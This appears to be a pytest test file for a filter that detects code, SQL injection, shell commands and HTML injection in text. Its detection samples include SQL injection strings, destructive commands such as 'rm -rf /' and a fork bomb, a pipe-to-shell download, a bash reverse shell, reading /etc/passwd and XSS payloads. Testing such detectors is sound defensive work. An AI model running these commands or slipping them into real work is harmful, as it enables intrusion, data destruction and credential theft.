"""Code is found by its form, and prose that speaks of code passes."""

from __future__ import annotations

import pytest

from .conftest import Hits, build

ONLY = {"blocks": False, "sql": False, "shell": False, "html": False}


def test_it_works(hits: Hits) -> None:
    assert hits("code", "So:\n```python\nprint(`1`)\n```\nDone.") == [("block", "```python\nprint(`1`)\n```")]


@pytest.mark.parametrize("text", ["```\nx\n```", "````md\n```\nx\n````", "~~~sh\nls\n~~~", "> ```\n> x\n> ```",
                                  "  ```js\nx\n  ```",
                                  "- ```\n  x\n  ```"])  # fmt: skip
def test_fences_of_every_kind(hits: Hits, text: str) -> None:
    assert hits("code", f"a\n{text}\nb", {**ONLY, "blocks": True})


def test_a_block_is_one_hit_and_both_fences_belong_to_it(hits: Hits) -> None:
    text = "```\none\n```\nbetween\n```\ntwo\n```"
    assert hits("code", text) == [("block", "```\none\n```"), ("block", "```\ntwo\n```")]


def test_a_block_without_an_end_is_hidden_to_the_end(hits: Hits) -> None:
    text = "```\n" + "x = 1\n" * 2_000
    assert hits("code", text) == [("block", text)]


def test_inline_code_passes(hits: Hits) -> None:
    assert hits("code", "use `ls` or ``a`b`` here", {**ONLY, "blocks": True}) == []


def test_languages_choose_the_blocks(hits: Hits) -> None:
    config = {**ONLY, "blocks": True, "languages": ["bash", "c++"]}
    assert hits("code", "```bash\nls\n```", config)
    assert hits("code", "```C++ title=x\nint\n```", config)
    assert hits("code", "```bashful\nls\n```", config) == []
    assert hits("code", "```python\nls\n```", config) == []


@pytest.mark.parametrize(
    ("form", "text"),
    [
        ("sql", "x' OR '1'='1"), ("sql", "1) or 1=1"), ("sql", "id=1 UNION ALL SELECT password"),
        ("sql", "'; drop table users"), ("sql", "admin'--"), ("sql", "exec xp_cmdshell"), ("sql", "and pg_sleep(5)"),
        ("shell", "rm -rf /"), ("shell", "sudo rm -r -f ~/x"), ("shell", "curl -s https://x.example/a | sh"),
        ("shell", ":(){ :|:& };:"), ("shell", "dd if=/dev/zero of=/dev/sda"),
        ("shell", "bash -i >& /dev/tcp/10.0.0.1/80"),
        ("shell", "x; cat /etc/passwd"), ("shell", "powershell -nop -enc SQBFAFgA"), ("shell", "chmod -R 777 /"),
        ("html", "<script src=x>"), ("html", "<IFRAME src=x>"), ("html", "<svg/onload=alert(1)>"),
        ("html", '<a href="javascript:x">'), ("html", "data:text/html,x"),
    ],
)  # fmt: skip
def test_each_form(hits: Hits, form: str, text: str) -> None:
    assert hits("code", f"so {text} now", {**ONLY, form: True})
    assert hits("code", f"so {text} now", {**dict.fromkeys(ONLY, True), form: False}) == []


@pytest.mark.parametrize(
    "text",
    ["I'd select a union rep", "either this or that = fine", "drop the table by the door", "he said 'yes' and left",
     "curl your hair | or not", "remove the file with rm", "a < b and c > d", "on Monday = today",
     "the script was good", "JavaScript is a language: use it", "rock'n'roll - the best",
     "allow '--4' as", "== 'value'\n# With", "say 'a' -- then b"],
)  # fmt: skip
def test_prose_passes(hits: Hits, text: str) -> None:
    assert hits("code", text) == []


@pytest.mark.parametrize("config", [ONLY, {**ONLY, "sql": True, "languages": ["sh"]}, {"languages": ["a b"]}])
def test_what_cannot_be_built_is_refused(config: dict[str, object]) -> None:
    with pytest.raises(ValueError, match=r"turn on|name of a language"):
        build("code", config)
